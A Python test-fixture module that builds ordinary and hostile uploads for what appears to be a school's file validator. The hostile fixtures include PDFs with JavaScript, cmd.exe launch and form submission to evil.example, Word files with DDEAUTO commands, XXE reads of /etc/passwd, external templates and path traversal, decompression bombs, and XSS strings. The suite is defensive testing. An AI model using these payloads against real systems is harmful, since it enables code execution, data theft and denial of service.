"""Files as strangers send them: twelve that a school really gets, and forty that must not come to anything."""

import io
import random
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

from documents.wordfiles import MAIN

SCRIPT = b"<script>alert(document.cookie)</script>"


# --- PDFs


def pdf(change=None, **saving):
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def javascript(made):
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def page_action(**action):
    def change(made):
        made.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(**action))

    return change


def link(**action):
    def change(made):
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 99, 99], A=pikepdf.Dictionary(**action)
        )
        made.pages[0].obj.Annots = pikepdf.Array([note])

    return change


def embedded(made):
    made.attachments["a.exe"] = pikepdf.AttachedFileSpec(made, b"MZ")


def xfa(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def film(made):
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 99, 99])
    made.pages[0].obj.Annots = pikepdf.Array([note])


def at_page_one(made):
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.XYZ, None, None, 0])


def deep_pdf():
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def unpacking_pdf():
    """An object stream of 400 MB of blanks in less than half a megabyte."""
    packed = zlib.compress(b" " * (400 << 20), 9)
    body = b"%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(packed)).encode()
    body += b">>stream\n" + packed + b"\nendstream\nendobj\n"
    rows = struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 2, 5, 0) + b"\0\0\0\0" * 3
    rows += struct.pack(">BHB", 1, 9, 0) + struct.pack(">BHB", 1, 0, 0)
    at = len(body)
    body += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length 28>>stream\n" + rows + b"\nendstream\nendobj\n"
    return body + b"startxref\n" + str(at).encode() + b"\n%%EOF"


# --- Pictures


def picture(kind="JPEG", size=(60, 40), mode="RGB", colour=(200, 30, 30), **saving):
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, kind, **saving)
    return out.getvalue()


def with_place():
    exif = Image.Exif()
    exif[0x0112] = 6  # lying on its side
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 45.0, 8.0)
    return picture(exif=exif)


def with_text(zipped=False):
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", SCRIPT.decode(), zip=zipped)
    return picture("PNG", pnginfo=about)


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def flood(width=50_000, height=50_000):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_bomb():
    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    bomb = b"Comment\0\0" + zlib.compress(b"x" * (300 << 20), 9)
    dot = zlib.compress(b"\0\1\2\3")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        [chunk(b"IHDR", head), chunk(b"zTXt", bomb), chunk(b"IDAT", dot), chunk(b"IEND", b"")]
    )


# --- Word

TYPES = f'<Types xmlns="t"><Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
WORDS = '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Dear Dr Patel</w:t></w:r></w:p></w:body></w:document>'
RELATION = (
    '<Relationships xmlns="r"><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" {mode}/></Relationships>'
)


def docx(parts=(), *, types=TYPES, words=WORDS, relation=None, prepare=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", types)
        packed.writestr("word/document.xml", words)
        if relation:
            packed.writestr("word/_rels/document.xml.rels", RELATION.format(**{"mode": "", **relation}))
        for name, content in parts:
            packed.writestr(name, content)
        if prepare:
            prepare(packed)
    return out.getvalue()


def outside(kind, target="http://evil.example/a"):
    return docx(relation={"kind": kind, "target": target, "mode": 'TargetMode="External"'})


def a_link(packed):
    part = zipfile.ZipInfo("word/media/image1.png")
    part.external_attr = 0o120777 << 16
    packed.writestr(part, "/etc/passwd")


def many(packed):
    for number in range(3000):
        packed.writestr(f"word/media/image{number}.png", b"")


def locked_docx():
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(mark, start)) >= 0:
            content[start + at] |= 1
            start += 4
    return bytes(content)


def field(words):
    return WORDS.replace("<w:t>", f"<w:instrText>{words}</w:instrText><w:t>")


def lying_docx():
    """It says that a part is small; the part goes on and on."""
    content = docx([("word/media/image1.png", b"\0" * (40 << 20))])
    small, real = struct.pack("<I", 1000), struct.pack("<I", 40 << 20)
    return content.replace(real, small)


ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

# name of the file, its bytes
GOOD = {
    "a scan": ("scan.pdf", pdf()),
    "a PDF that opens at page one": ("letter.pdf", pdf(at_page_one)),
    "a PDF with a link": ("letter.pdf", pdf(link(S=pikepdf.Name.URI, URI="https://example.org/"))),
    "a packed PDF": ("letter.PDF", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "a photograph": ("slip.jpg", picture(size=(3000, 2000))),
    "a photograph lying on its side": ("slip.JPEG", with_place()),
    "a grey photograph": ("slip.jpeg", picture(mode="L", colour=90)),
    "a print shop's picture": ("slip.jpg", picture(mode="CMYK", colour=(0, 9, 9, 0))),
    "a screenshot": ("screen.png", picture("PNG", mode="RGBA", colour=(1, 2, 3, 90))),
    "a picture of few colours": ("screen.png", picture("PNG", mode="P", colour=3)),
    "a PNG that is called JPEG": ("image.jpg", picture("PNG")),
    "a letter": ("letter.docx", docx(relation={"kind": "hyperlink", "target": "https://example.org/", "mode": 'TargetMode="External"'})),
}  # fmt: skip
REFUSED = {
    "PDF: a script when it opens": ("a.pdf", pdf(javascript)),
    "PDF: the script's name in disguise": ("a.pdf", pdf(javascript).replace(b"/JS", b"/J#53").replace(b"/JavaScript", b"/Java#53cript")),
    "PDF: the script packed away": ("a.pdf", pdf(javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "PDF: starts a program": ("a.pdf", pdf(link(S=pikepdf.Name.Launch, F="cmd.exe"))),
    "PDF: a file inside": ("a.pdf", pdf(embedded)),
    "PDF: an action of a page": ("a.pdf", pdf(page_action(S=pikepdf.Name.URI, URI="http://evil.example/"))),
    "PDF: a form with a program": ("a.pdf", pdf(xfa)),
    "PDF: sends a form": ("a.pdf", pdf(link(S=pikepdf.Name.SubmitForm, F="http://evil.example/"))),
    "PDF: opens another file": ("a.pdf", pdf(link(S=pikepdf.Name.GoToR, F="//evil.example/a.pdf"))),
    "PDF: a film": ("a.pdf", pdf(film)),
    "PDF: a page behind its end": ("a.pdf", pdf() + b"<html>" + SCRIPT),
    "PDF: locked": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "PDF: half of it": ("a.pdf", pdf()[:300]),
    "PDF: nested without end": ("a.pdf", deep_pdf()),
    "PDF: unpacks without end": ("a.pdf", unpacking_pdf()),
    "picture: without end": ("a.png", flood()),
    "picture: its comment unpacks without end": ("a.png", text_bomb()),
    "picture: half of it": ("a.jpg", picture(size=(900, 900))[:400]),
    "picture: a drawing that acts": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "picture: another kind": ("a.jpg", picture("GIF", mode="P", colour=1)),
    "Word: a macro": ("a.docx", docx([("word/vbaProject.bin", b"x")])),
    "Word: a macro by its kind": ("a.docx", docx(types=TYPES.replace("document.main", "document.macroEnabled.main"))),
    "Word: a file inside": ("a.docx", docx([("word/embeddings/oleObject1.bin", b"x")])),
    "Word: a control": ("a.docx", docx([("word/activeX/activeX1.xml", "<x/>")])),
    "Word: a template from elsewhere": ("a.docx", outside("attachedTemplate")),
    "Word: a picture from elsewhere": ("a.docx", outside("image")),
    "Word: a link to a program": ("a.docx", outside("hyperlink", "file:///c:/windows/cmd.exe")),
    "Word: another document poured in": ("a.docx", docx(relation={"kind": "aFChunk", "target": "a.html"})),
    "Word: an entity": ("a.docx", docx(words=ENTITY + WORDS)),
    "Word: an entity in other letters": ("a.docx", docx(words=('<?xml version="1.0" encoding="utf-16"?>' + ENTITY + WORDS).encode("utf-16"))),
    "Word: a field that fetches": ("a.docx", docx(words=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    "Word: that field in pieces": ("a.docx", docx(words=field("DD</w:instrText><w:instrText>EAUTO x"))),
    "Word: up and out": ("a.docx", docx([("word/../../etc/passwd.xml", "<x/>")])),
    "Word: a link to a file": ("a.docx", docx(prepare=a_link)),
    "Word: thousands of parts": ("a.docx", docx(prepare=many)),
    "Word: unpacks without end": ("a.docx", docx([("word/media/image1.png", b"\0" * (50 << 20))])),
    "Word: unpacks into more than it says": ("a.docx", lying_docx()),
    "Word: locked": ("a.docx", locked_docx()),
    "Word: two parts of one name": ("a.docx", docx([("word/Document.xml", "<x/>")])),
    "Word: a web page inside": ("a.docx", docx([("word/page.html", SCRIPT)])),
    "Word: not a document": ("a.docx", docx(types="<Types/>").replace(b"word/document.xml", b"word/documents.ml")),
    "a web page": ("a.pdf", b"<html>" + SCRIPT),
    "a program": ("a.pdf", b"MZ\x90\x00" + b"\0" * 100),
    "a PDF by another name": ("a.docx", pdf()),
    "an old Office file": ("a.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 100),
    "a telephone's own kind": ("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100),
    "nothing": ("a.pdf", b""),
    "too much": ("a.pdf", b"%PDF-1.7\n" + b"\0" * (10 << 20) + b"%%EOF"),
}  # fmt: skip
# Kept, and nothing of what rode along is in what is kept.
HARMLESS = {
    "a script in a comment": ("a.jpg", picture(comment=SCRIPT)),
    "a script behind the picture": ("a.jpg", picture() + SCRIPT),
    "a script in a text": ("a.png", with_text()),
    "a script in a packed text": ("a.png", with_text(zipped=True)),
    "a second file behind the picture": ("a.png", picture("PNG") + docx()),
    "where it was taken": ("a.jpg", with_place()),
    "a name that reaches out": ("../../\u202egpj.exe\x00\n.jpg", picture(comment=SCRIPT)),
}


def mutations(count, seed):
    """Good files with bytes changed, cut out, doubled and put in: the same for the same seed."""
    chance = random.Random(seed)
    good = list(GOOD.values())
    for _ in range(count):
        name, content = chance.choice(good)
        content = bytearray(content[:200_000])
        for _ in range(chance.choice((1, 1, 2, 5, 20))):
            at = chance.randrange(len(content))
            how = chance.randrange(4)
            if how == 0:
                content[at] = chance.randrange(256)
            elif how == 1:
                del content[at : at + chance.randrange(1, 200)]
            elif how == 2:
                content[at:at] = content[max(0, at - chance.randrange(1, 200)) : at]
            else:
                content[at:at] = chance.randbytes(chance.randrange(1, 30))
            if not content:
                content = bytearray(b"x")
        yield name, bytes(content)
